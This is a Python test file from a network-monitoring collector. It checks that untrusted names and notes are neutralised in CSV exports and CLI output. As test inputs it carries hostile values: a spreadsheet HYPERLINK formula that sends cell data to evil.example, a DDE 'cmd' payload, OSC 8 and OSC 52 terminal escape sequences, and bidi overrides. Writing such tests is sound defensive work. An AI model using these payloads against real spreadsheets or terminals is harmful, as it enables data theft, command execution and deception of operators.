"""Untrusted text outside pages: CSV cells spreadsheets would evaluate, terminal escapes.

A kit's operator name and a ticket note are stored as received; the coverage CSV must
not carry a formula and no CLI line may carry a control sequence to the terminal.
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import time
from pathlib import Path

import pytest
from conftest import WebSite

from collector.store.model import IngestBatch, RecordRow, SignalState
from collector.store.sqlite import SqliteStore
from collector.web.seed import signal_record
from pantau.core.untrusted import csv_cell, terminal

_S = 10**9
CODE = "3171010001001"

#: What an attacker would put in a note or an operator name: an OSC 8 hyperlink, a screen
#: clear, a bell, a C1 CSI, a bidi override and a newline faking a second line.
HOSTILE = (
    "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\ \x1b[2J\x07\x9b31m"
    "\u202eevil\u202c\nresolved by admin"
)


def _no_controls(text: str) -> None:
    for ch in ("\x1b", "\x07", "\x9b", "\u202e", "\u202c"):
        assert ch not in text, (ch, text)


def test_terminal_shows_every_control_visibly() -> None:
    shown = terminal(HOSTILE)
    _no_controls(shown)
    assert "\n" not in shown
    assert shown.startswith("\\x1b]8;;http://evil.example/\\x1b\\click")
    assert "\\x1b[2J\\x07\\x9b31m\\u202eevil\\u202c\\x0aresolved by admin" in shown
    assert terminal("Telkomsel 4G, ok: ÄÖ 日本") == "Telkomsel 4G, ok: ÄÖ 日本"
    assert terminal("\t\r\x00\x7f\u2028\u2066\u200f\ufeff") == (
        "\\x09\\x0d\\x00\\x7f\\u2028\\u2066\\u200f\\ufeff"
    )
    assert terminal(None) == "-"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1+2", "'+1+2"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Telkomsel", "Telkomsel"),
        (-97.5, -97.5),
        (0, 0),
        (None, ""),
    ],
)
def test_csv_cells_starting_like_a_formula_are_quoted(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def test_coverage_csv_never_carries_a_formula(web_site: WebSite) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Telkomsel")'
    now = time.time_ns()
    records = [
        signal_record(i + 1, now - (5 - i) * 60 * _S, mcc="510", mnc="10", name=formula,
                      rsrp=-90.0, cell_id=7)
        for i in range(5)
    ]  # fmt: skip
    web_site.ingest(CODE, records)
    api = web_site.user("viewer")
    text = api.get("/api/v1/coverage", params={"format": "csv"}).text
    rows = {row["site_code"]: row for row in csv.DictReader(io.StringIO(text))}
    assert rows[CODE]["operator_name"] == "'" + formula
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), row
            if value.startswith("-"):  # only numbers may start with a minus
                float(value)
    # The GeoJSON keeps the name as the kit sent it: JSON is not evaluated.
    geo = api.get("/api/v1/coverage").json()
    names = {
        f["properties"]["site_code"]: f["properties"]["operator_name"] for f in geo["features"]
    }
    assert names[CODE] == formula


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "collector.cli", *args],
        capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip


@pytest.mark.timeout(120)
def test_cli_prints_stored_text_with_controls_visible(tmp_path: Path) -> None:
    store = SqliteStore(tmp_path / "collector.sqlite")
    now = time.time_ns()
    try:
        store.add_agent("kit-1", CODE, "x" * 64)
        signal = SignalState(now, "lte", "registered", "510", "10", HOSTILE, 1, -90.0, -9.0, 5.0,
                             -60.0)  # fmt: skip
        row = RecordRow(1, "signal", now, now, "synced-wall", b"")
        store.commit([IngestBatch("kit-1", CODE, [row], now, signal=signal)])
        change = store.raise_problem(
            CODE, "510-10\x1b[31m", "NO_SERVICE\u202e", route="noc", first_bad_ns=now,
            last_bad_ns=now, evidence={"note": HOSTILE}, historical=False, now_ns=now,
            reopen_window_ns=0,
        )  # fmt: skip
        store.acknowledge_ticket(change.ticket.id, actor="rina\x1b[8m", note=HOSTILE, now_ns=now)
        store.add_user("eve\x1b]52;c;ZWNobyBldmls\x07", "h", "viewer", None, now)
    finally:
        store.close()
    data = ["--data-dir", str(tmp_path)]
    outputs = {
        "show": _cli("tickets", "show", str(change.ticket.id), *data),
        "list": _cli("tickets", "list", *data),
        "sites": _cli("sites", *data),
        "watch": _cli("watch", "--once", *data),
        "users": _cli("users", "list", *data),
    }
    for name, r in outputs.items():
        assert r.returncode == 0, (name, r.stderr)
        _no_controls(r.stdout)
    show = outputs["show"].stdout
    assert "\\x1b]8;;http://evil.example/\\x1b\\click" in show
    assert "\\u202eevil\\u202c\\x0aresolved by admin" in show
    assert "by rina\\x1b[8m" in show and "NO_SERVICE\\u202e" in show
    assert "510-10\\x1b[31m" in outputs["list"].stdout
    assert "eve\\x1b]52;c;ZWNobyBldmls\\x07" in outputs["users"].stdout
    # JSON output escapes controls itself and keeps the text exact.
    import json

    shown = json.loads(_cli("tickets", "show", str(change.ticket.id), "--json", *data).stdout)
    assert shown["history"][-1]["note"] == HOSTILE
